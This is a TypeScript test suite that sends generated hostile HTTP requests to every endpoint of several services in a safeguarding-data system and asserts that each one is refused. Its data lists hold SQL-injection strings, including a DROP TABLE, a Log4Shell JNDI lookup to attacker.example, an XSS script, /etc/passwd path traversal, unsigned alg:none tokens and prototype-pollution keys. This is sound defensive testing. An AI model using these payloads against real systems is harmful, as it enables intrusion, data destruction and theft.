/**
 * The hostile-input suite, HTTP half (issue 12): every HTTP endpoint of every node, the hub and
 * audit, read from each app's routes, is sent generated hostile requests — token attacks, the
 * wrong role or agency, malformed JSON, wrong types, oversize and deeply nested bodies, every
 * refused control character and lone surrogates in bodies, keys, query strings and paths,
 * prototype keys, injection strings and impossible dates. Each case asserts its specific refusal
 * (status, and the rule in the message where the boundary names one), that no input is answered
 * 5xx, and that nothing was sent: the app's outbox — the only way out of a service, so the only
 * way a status elsewhere could change — holds no new row after each endpoint's cases. Every case
 * is recorded in HostileTally. Real: each app as main.ts builds it (middleware, guards, pipes,
 * filters) on the real database, driven in-process with supertest; tokens from a test issuer
 * over HTTP; the hub's keys and registry entries from a hub stand-in.
 */
import { INestApplication, Type } from '@nestjs/common';
import request from 'supertest';
import { DataSource } from 'typeorm';

import { AppModule as AuditModule } from '../../apps/audit/src/app.module';
import { AppModule as EducationModule } from '../../apps/education-adapter/src/app.module';
import { AppModule as HealthModule } from '../../apps/health-adapter/src/app.module';
import { AppModule as HubModule } from '../../apps/hub/src/app.module';
import { AppModule as MaracModule } from '../../apps/marac/src/app.module';
import { AppModule as PoliceModule } from '../../apps/police-adapter/src/app.module';
import { AppModule as SocialCareModule } from '../../apps/social-care-adapter/src/app.module';
import { AppRoute, appRoutes, concretePath } from '../support/app-routes';
import { DEMO_NODE_AGENCIES, HubStandIn } from '../support/hub-stand-in';
import { inProcessApp } from '../support/in-process-app';
import { TestIssuer, TokenOptions } from '../support/test-issuer';
import { HostileTally } from './support/hostile-tally';

const APPS: [string, Type<unknown>][] = [
  ['police', PoliceModule],
  ['education', EducationModule],
  ['health', HealthModule],
  ['social-care', SocialCareModule],
  ['marac', MaracModule],
  ['hub', HubModule],
  ['audit', AuditModule],
];
const MAILBOX = 'hostile-test-mailbox';
const MAX_BODY_BYTES = 262_144;

/** Every character the boundary refuses in a string: C0 but tab, LF and CR; DEL; C1. */
const CONTROL_CHARACTERS = [
  ...Array.from({ length: 0x20 }, (_, code) => code).filter((code) => ![9, 10, 13].includes(code)),
  ...Array.from({ length: 0x21 }, (_, index) => 0x7f + index),
].map((code) => String.fromCharCode(code));
const LONE_SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', 'a\ud83d'];
const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];
const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE outbox; --",
  '1; SELECT pg_sleep(10)',
  '${jndi:ldap://attacker.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '{{7*7}}',
  '$where: 1',
];
const IMPOSSIBLE_DATES = [
  '2026-W01-1',
  '2026-02-30T10:00:00Z',
  '2014-02-29T10:00:00Z',
  '0000-00-00T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-03-01T25:00:00Z',
  '9999-12-31T23:59:59Z',
  '2026-03-01',
];
const MALFORMED_JSON = [
  '{',
  '{"a":',
  '{"a":1,}',
  "{'a':1}",
  '{"a":1}}',
  'undefined',
  '{"a":NaN}',
  '[1,2',
  '{"a":"\\x00"}',
  '\u0000{}',
];

interface Expectation {
  status: number | 'refusal';
  /** A text the refusal's message must contain. */
  mentions?: string;
}

interface HostileCase {
  name: string;
  token?: string | null;
  /** Raw JSON text, or undefined for no body. */
  body?: string;
  path?: string;
  authorization?: string;
  expect: Expectation;
}

describe('hostile HTTP input to every endpoint of every service', () => {
  const issuer = new TestIssuer();
  const hub = new HubStandIn();
  const apps = new Map<string, INestApplication>();
  const tally = new HostileTally('http-boundary');
  const now = () => Math.floor(Date.now() / 1000);

  beforeAll(async () => {
    await issuer.start();
    await hub.start();
    Object.assign(process.env, { HUB_JWKS_URL: hub.jwksUrl, OUTBOX_RELAY_ENABLED: 'false' });
    for (const [name, module] of APPS) apps.set(name, await inProcessApp(module));
  });

  afterAll(async () => {
    for (const app of apps.values()) await app.close();
    await hub.stop();
    await issuer.stop();
    const { passed, failed } = tally.counts;
    console.log(`http-boundary hostile cases: ${passed} passed, ${failed} failed`);
  });

  /** A token that passes the route's guard, so each body case reaches the boundary's rule. */
  function authorisedToken(appName: string, route: AppRoute): Promise<string> {
    const role = route.roles[0] ?? 'admin';
    const options: TokenOptions = { roles: [role], subject: `hostile-${role}` };
    if (role === 'agency-system') options.agency = DEMO_NODE_AGENCIES[appName] ?? 'any-agency';
    if (role === 'mailbox-user') options.mailboxes = [MAILBOX];
    return issuer.token(options);
  }

  async function tokenAttacks(route: AppRoute): Promise<HostileCase[]> {
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const claims = { iss: issuer.issuer, aud: 'x', sub: 'x', roles: ['admin'], exp: now() + 600 };
    const roles = route.roles.length ? route.roles : ['admin'];
    const invalid: [string, string | null, string?][] = [
      ['no token', null],
      ['a malformed token', 'not.a.jwt'],
      ['an expired token', await issuer.token({ roles, expiresAt: now() - 3600 })],
      ['a token for another audience', await issuer.token({ roles, audience: 'other-api' })],
      ['a token of an unpublished key', await issuer.foreignToken({ roles })],
      ['an unsigned token', `${part({ alg: 'none' })}.${part(claims)}.`],
      ['an empty sub', await issuer.token({ roles, subject: '' })],
      ['an iat in the future', await issuer.token({ roles, issuedAt: now() + 3600 })],
      ['a token until year 9999', await issuer.token({ roles, expiresAt: 253_402_300_799 })],
      ['the Basic scheme', null, `Basic ${Buffer.from('admin:admin').toString('base64')}`],
      ['a token with a space', null, `Bearer ${await issuer.token({ roles })} x`],
    ];
    const cases: HostileCase[] = invalid.map(([name, token, authorization]) => ({
      name: `token: ${name}`,
      token,
      authorization,
      expect: { status: 401 },
    }));
    const wrongRole = [
      'auditor',
      'mailbox-user',
      'marac-coordinator',
      'agency-system',
      'admin',
    ].find((role) => !route.roles.includes(role as never));
    if (route.roles.length && wrongRole) {
      cases.push({
        name: `token: the role ${wrongRole} only`,
        token: await issuer.token({ roles: [wrongRole], mailboxes: [MAILBOX], agency: 'x' }),
        expect: { status: 403 },
      });
    }
    if (route.path.includes(':mailboxId')) {
      cases.push({
        name: 'token: a mailbox-user of another mailbox',
        token: await issuer.token({ roles: ['mailbox-user'], mailboxes: ['another-mailbox'] }),
        expect: { status: 403 },
      });
    }
    return cases;
  }

  function bodyAttacks(token: string, validates: boolean): HostileCase[] {
    const cases: HostileCase[] = [];
    const add = (name: string, body: string, expect: Expectation) =>
      cases.push({ name, token, body, expect });
    for (const text of MALFORMED_JSON) {
      add(`malformed JSON ${JSON.stringify(text)}`, text, {
        status: 400,
        mentions: 'not valid JSON',
      });
    }
    for (const depth of [33, 100, 1_000, 10_000, 100_000]) {
      for (const [shape, body] of [
        ['arrays', `${'['.repeat(depth)}${']'.repeat(depth)}`],
        ['objects', `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`],
      ]) {
        // The size limit is checked first: a body too deep and too large is answered 413.
        add(
          `nested ${depth} deep (${shape})`,
          body,
          body.length > MAX_BODY_BYTES
            ? { status: 413, mentions: 'larger than 262144 bytes' }
            : { status: 400, mentions: 'nested deeper than 32' },
        );
      }
    }
    for (const size of [262_145, 1_048_576, 5_000_000]) {
      add(`a body of ${size} bytes`, JSON.stringify({ a: 'x'.repeat(size) }), {
        status: 413,
        mentions: 'larger than 262144 bytes',
      });
    }
    for (const character of CONTROL_CHARACTERS) {
      const code = `U+${character.charCodeAt(0).toString(16).padStart(4, '0')}`;
      const mentions = 'must not contain control characters';
      add(`${code} in a value`, JSON.stringify({ name: `a${character}b` }), {
        status: 400,
        mentions,
      });
      add(`${code} in a nested value`, JSON.stringify({ child: { list: ['ok', character] } }), {
        status: 400,
        mentions,
      });
      add(`${code} in a key`, JSON.stringify({ [`k${character}`]: 'v' }), {
        status: 400,
        mentions,
      });
    }
    for (const surrogate of LONE_SURROGATES) {
      const mentions = 'unpaired UTF-16 surrogates';
      const escaped = [...surrogate]
        .map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
        .join('');
      add(`lone surrogate ${escaped} in a value`, `{"name":"x${escaped}"}`, {
        status: 400,
        mentions,
      });
      add(`lone surrogate ${escaped} in a key`, `{"k${escaped}":1}`, { status: 400, mentions });
    }
    for (const key of PROTOTYPE_KEYS) {
      const mentions = `key ${key} is not allowed`;
      add(`${key} at the top`, `{"${key}":{"isAdmin":true}}`, { status: 400, mentions });
      add(`${key} nested`, `{"child":{"${key}":{"polluted":1}}}`, { status: 400, mentions });
      add(`${key} in a list`, `{"children":[{"${key}":{"prototype":{}}}]}`, {
        status: 400,
        mentions,
      });
    }
    const typed = validates ? { status: 400 } : { status: 'refusal' as const };
    for (const [name, body] of [
      ['a JSON array', '[]'],
      ['a JSON number', '42'],
      ['a JSON string', '"text"'],
      ['JSON null', 'null'],
      ['JSON true', 'true'],
      ['an object of wrong types', '{"policeReference":1,"children":"x","consent":[]}'],
      ['an empty object', '{}'],
    ]) {
      add(`wrong type: ${name}`, body, typed);
    }
    for (const injection of INJECTIONS) {
      add(`injection in an unknown field: ${injection}`, JSON.stringify({ x: injection }), typed);
    }
    for (const date of IMPOSSIBLE_DATES) {
      add(
        `impossible date ${date}`,
        JSON.stringify({ occurredAt: date, startedAt: date, withdrawnAt: date, dateOfBirth: date }),
        typed,
      );
    }
    return cases;
  }

  function queryAndPathAttacks(route: AppRoute, token: string): HostileCase[] {
    const base = concretePath(route, MAILBOX);
    const cases: HostileCase[] = [];
    for (const character of [...CONTROL_CHARACTERS.slice(0, 27), '\u007f', '\u0085']) {
      const encoded = encodeURIComponent(character);
      cases.push({
        name: `query with ${encoded}`,
        token,
        path: `${base}?q=a${encoded}`,
        expect: { status: 400, mentions: 'query.q must not contain control characters' },
      });
    }
    // A lone surrogate has no UTF-8 form, so a URL cannot carry one: the parser decodes such bytes
    // to U+FFFD. Bodies carry them as JSON escapes (bodyAttacks).
    for (const key of PROTOTYPE_KEYS) {
      cases.push({
        name: `query key ${key}`,
        token,
        path: `${base}?${key}=1`,
        expect: { status: 400, mentions: `key ${key} is not allowed` },
      });
    }
    const parameters = route.path.match(/:\w+/g) ?? [];
    for (const parameter of parameters) {
      for (const value of [...INJECTIONS, '%00', '%1b', '%C0%80', '%E0%80%80']) {
        const path = route.path
          .replace(parameter, value.startsWith('%') ? `x${value}` : encodeURIComponent(value))
          .replace(/:(\w+)/g, (_, name: string) =>
            name === 'mailboxId' ? MAILBOX : '7f3e2a4c-1b5d-4e6f-8a9b-0c1d2e3f4a5b',
          );
        cases.push({
          name: `path ${parameter} = ${value}`,
          token,
          path,
          expect: value.startsWith('%') ? { status: 400 } : { status: 'refusal' },
        });
      }
    }
    return cases;
  }

  async function outboxRows(app: INestApplication): Promise<number | null> {
    const db = app.get(DataSource);
    const [{ exists }] = (await db.query(`SELECT to_regclass('outbox') IS NOT NULL AS exists`)) as {
      exists: boolean;
    }[];
    if (!exists) return null;
    const [{ n }] = (await db.query('SELECT count(*)::int AS n FROM outbox')) as { n: number }[];
    return n;
  }

  async function send(app: INestApplication, route: AppRoute, hostile: HostileCase) {
    const server = app.getHttpServer();
    let call = request(server)[route.method](hostile.path ?? concretePath(route, MAILBOX));
    if (hostile.authorization) call = call.set('Authorization', hostile.authorization);
    else if (hostile.token) call = call.set('Authorization', `Bearer ${hostile.token}`);
    if (hostile.body !== undefined) {
      call = call.set('Content-Type', 'application/json');
      return call.send(hostile.body);
    }
    return call;
  }

  function problemsOf(
    hostile: HostileCase,
    response: { status: number; body: { message?: unknown } },
  ): string[] {
    const problems: string[] = [];
    if (response.status >= 500) problems.push(`answered ${response.status}`);
    const { status, mentions } = hostile.expect;
    if (status === 'refusal') {
      if (response.status < 400) problems.push(`accepted with ${response.status}`);
    } else if (response.status !== status) {
      problems.push(`status ${response.status}, expected ${status}`);
    }
    if (mentions && !JSON.stringify(response.body?.message ?? '').includes(mentions)) {
      problems.push(`message ${JSON.stringify(response.body?.message)} lacks "${mentions}"`);
    }
    return problems;
  }

  it.each(APPS.map(([name]) => name))(
    'refuses every hostile case on every endpoint of %s, 4xx with its code, nothing sent',
    async (appName) => {
      const app = apps.get(appName)!;
      const routes = appRoutes(app);
      expect(routes.length).toBeGreaterThan(2);
      for (const route of routes) {
        const before = await outboxRows(app);
        const token = await authorisedToken(appName, route);
        const hasBody = ['post', 'put', 'patch'].includes(route.method);
        let validates = false;
        if (hasBody) {
          const probe = await send(app, route, {
            name: 'probe',
            token,
            body: '{}',
            expect: { status: 'refusal' },
          });
          validates = probe.status === 400;
        }
        const cases = [
          ...(route.public ? [] : await tokenAttacks(route)),
          ...(hasBody ? bodyAttacks(token, validates) : []),
          ...queryAndPathAttacks(route, token),
        ];
        for (const hostile of cases) {
          const response = await send(app, route, hostile);
          tally.record(
            `${appName} ${route.method.toUpperCase()} ${route.path}: ${hostile.name}`,
            problemsOf(hostile, response),
          );
        }
        const after = await outboxRows(app);
        tally.record(
          `${appName} ${route.method.toUpperCase()} ${route.path}: nothing sent after ${cases.length} cases`,
          after === before ? [] : [`outbox grew from ${before} to ${after}`],
        );
      }
    },
  );

  it('generated at least 7,000 cases, and every one held', () => {
    const { passed, failed } = tally.counts;
    expect(passed + failed).toBeGreaterThanOrEqual(7_000);
    tally.assertAllPassed();
  });
});
